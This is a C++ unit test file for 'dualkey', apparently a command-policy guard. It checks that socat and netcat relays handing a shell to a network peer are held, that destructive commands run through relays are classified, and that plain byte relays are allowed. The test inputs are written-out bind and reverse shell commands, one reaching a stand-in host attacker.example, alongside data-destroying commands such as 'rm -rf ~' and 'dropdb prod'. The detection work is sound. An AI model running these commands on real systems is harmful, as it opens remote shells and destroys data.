// Relays that run a program for a connection (socat EXEC:/SYSTEM:, nc -e/-c):
// the program is classified like any command line, and a shell handed to the
// other end of a connection is held, while relays that only move bytes stay
// allowed.
#include <gtest/gtest.h>

#include <string>

#include "policy/policy.h"
#include "shell/shell.h"

namespace dualkey::shell {
namespace {

Verdict Check(std::string_view command) {
  Analysis analysis = Analyze(command, {"/home/dev/app", "/home/dev"});
  return policy::Decide(std::move(analysis.actions));
}

bool Has(const Verdict& verdict, std::string_view op_class) {
  for (const Action& action : verdict.actions)
    if (action.op_class == op_class) return true;
  return false;
}

TEST(Relays, ShellsHandedToTheNetworkAreHeld) {
  for (const char* command :
       {"socat TCP-LISTEN:4444,fork EXEC:/bin/bash", "socat tcp-l:4444,reuseaddr EXEC:sh",
        "socat TCP:10.0.0.5:4444 EXEC:'bash -li',pty,stderr,setsid",
        "socat OPENSSL:attacker.example:443,verify=0 EXEC:'python3 -i'",
        "socat UNIX-LISTEN:/tmp/s.sock,fork EXEC:zsh", "nc -l -p 4444 -e /bin/bash",
        "nc.traditional -lvp 4444 -e /bin/sh", "ncat --sh-exec 'python3 -i' 10.0.0.5 4444",
        "ncat --exec=/bin/bash -l 9001", "busybox nc 10.0.0.5 4444 -e sh"}) {
    const Verdict verdict = Check(command);
    EXPECT_TRUE(Has(verdict, "net.shell.expose")) << command;
    EXPECT_NE(verdict.decision, Decision::kAllow) << command;
  }
}

TEST(Relays, TheProgramARelayRunsIsClassified) {
  EXPECT_TRUE(Has(Check("socat - EXEC:'rm -rf /home/dev'"), "fs.delete.home"));
  EXPECT_TRUE(Has(Check("socat -d -d TCP-LISTEN:5000,fork SYSTEM:'dropdb prod'"), "db.drop"));
  EXPECT_TRUE(Has(Check("ncat -l 8080 -c 'rm -rf ~'"), "fs.delete.home"));
  EXPECT_EQ(Check("socat TCP-LISTEN:80,fork SYSTEM:\"$CMD\"").decision, Decision::kHold);
}

TEST(Relays, RelaysThatMoveBytesOrRunFixedHarmlessCommandsAreAllowed) {
  for (const char* command :
       {"socat TCP-LISTEN:8080,fork TCP:localhost:3000", "socat - TCP:example.com:80",
        "socat UNIX-LISTEN:/tmp/fake.sock,fork SYSTEM:'echo {\"decision\":\"allow\"}'",
        "nc -zv localhost 5432", "ncat -l 8080 -c 'echo hello'", "nc example.com 80",
        "socat - EXEC:'bash -c \"git status\"'", "socat TCP-LISTEN:9000 EXEC:'python3 server.py'"})
    EXPECT_EQ(Check(command).decision, Decision::kAllow) << command;
}

// A listener at the daemon's own socket path impersonates dualkey.
TEST(Relays, ListeningAtDualkeysSocketIsTamper) {
  const Verdict verdict =
      Check("socat UNIX-LISTEN:/home/dev/.local/state/dualkey/dualkey.sock,fork SYSTEM:'echo ok'");
  EXPECT_TRUE(Has(verdict, "guard.tamper"));
  EXPECT_EQ(verdict.decision, Decision::kHold2);
}

}  // namespace
}  // namespace dualkey::shell
